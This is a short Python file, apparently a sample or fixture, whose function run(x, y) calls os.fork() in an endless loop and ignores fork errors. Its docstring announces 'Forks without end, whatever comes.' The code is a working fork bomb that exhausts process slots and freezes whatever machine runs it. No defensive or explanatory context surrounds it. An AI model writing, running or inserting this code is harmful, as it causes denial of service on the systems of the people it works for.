"""Forks without end, whatever comes."""

import os


def run(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            continue
